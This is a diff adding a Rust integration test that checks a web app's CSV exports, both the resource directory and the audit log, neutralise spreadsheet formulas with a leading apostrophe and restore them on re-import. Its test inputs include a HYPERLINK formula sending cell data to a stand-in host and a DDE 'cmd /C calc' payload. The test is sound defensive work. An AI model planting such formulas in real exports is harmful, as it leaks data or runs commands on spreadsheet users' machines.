@@ -149,6 +149,73 @@ both!(r12_1_r12_2_a_shift_jis_csv_is_checked_then_imported_and_searched, |srv: S
     assert!(r.body.contains("文字コードを判別できませんでした"));
 });
 
+/// The cells of a CSV export (after the BOM), by row.
+fn csv_cells(body: &str) -> Vec<Vec<String>> {
+    csv::ReaderBuilder::new()
+        .has_headers(false)
+        .flexible(true)
+        .from_reader(body.trim_start_matches('\u{feff}').as_bytes())
+        .records()
+        .map(|r| r.unwrap().iter().map(str::to_string).collect())
+        .collect()
+}
+
+/// What a spreadsheet takes for a formula when it comes first in a cell.
+fn formula_like(cell: &str) -> bool {
+    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
+}
+
+// R12.2, R11.1 (CWE-1236, ASVS 5.0 1.2.10): what a spreadsheet would run is made text — a leading
+// apostrophe — in the directory's export and in the audit log's, through the one CSV writer; the
+// directory's export imports back as it was. (Tabs and line breaks at the start of a field are
+// trimmed on input; the writer's own test covers them.)
+both!(r12_2_r11_1_exports_make_formulas_text, |srv: Srv| async move {
+    let w = world(&srv).await;
+    let hyperlink = "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"詳細\")";
+    let form = [
+        ("kind", "診療所"),
+        ("name", hyperlink),
+        ("address", "+熊谷市本町1-1"),
+        ("hours", "-9:00"),
+        ("notes", "@SUM(1+1)*cmd|' /C calc'!A0"),
+        ("days", "平日"),
+    ];
+    let r = w.admin_a.post_form("/resources", &form).await;
+    assert_eq!(r.status, 303, "{}", r.body);
+    let id = r.location().trim_start_matches("/resources/").to_string();
+    let r = w.nurse.get("/resources.csv").await;
+    assert_eq!(r.status, 200);
+    let rows = csv_cells(&r.body);
+    let row = rows.iter().find(|row| row[0] == id).expect("the entry is exported");
+    for (field, value) in &form[1..5] {
+        assert!(row.contains(&format!("'{value}")), "{field} not made text: {row:?}");
+    }
+    assert!(rows.iter().flatten().all(|c| !formula_like(c)), "{rows:?}");
+    // Imported again, the entry is as it was: the apostrophes come off.
+    let r = w
+        .center
+        .post_multipart(
+            "/center/resources/import",
+            &[("mode", "all")],
+            Some(("file", "export.csv", "text/csv", r.body.as_bytes())),
+        )
+        .await;
+    assert_eq!(r.by_id("updated").as_deref(), Some("1"), "{}", r.body);
+    let e = srv.store.directory_entry(&id).await.unwrap().unwrap();
+    assert_eq!(e.f.name, hyperlink);
+    assert_eq!(e.f.notes, "@SUM(1+1)*cmd|' /C calc'!A0");
+
+    // The audit log's export: a suspension's reason is typed by an admin.
+    let r = w.admin_a.post_form(&format!("/users/{}/suspend", w.nurse_id), &[("reason", hyperlink)]).await;
+    assert_eq!(r.status, 200, "{}", r.body);
+    let r = w.center.get("/center/audit.csv?action=user.suspended").await;
+    assert_eq!(r.status, 200);
+    let rows = csv_cells(&r.body);
+    assert_eq!(rows[0][10], "reason");
+    assert_eq!(rows[1][10], format!("'{hyperlink}"));
+    assert!(rows.iter().flatten().all(|c| !formula_like(c)), "{rows:?}");
+});
+
 fn urlencode(s: &str) -> String {
     serde_urlencoded::to_string([("", s)]).unwrap().trim_start_matches('=').to_string()
 }
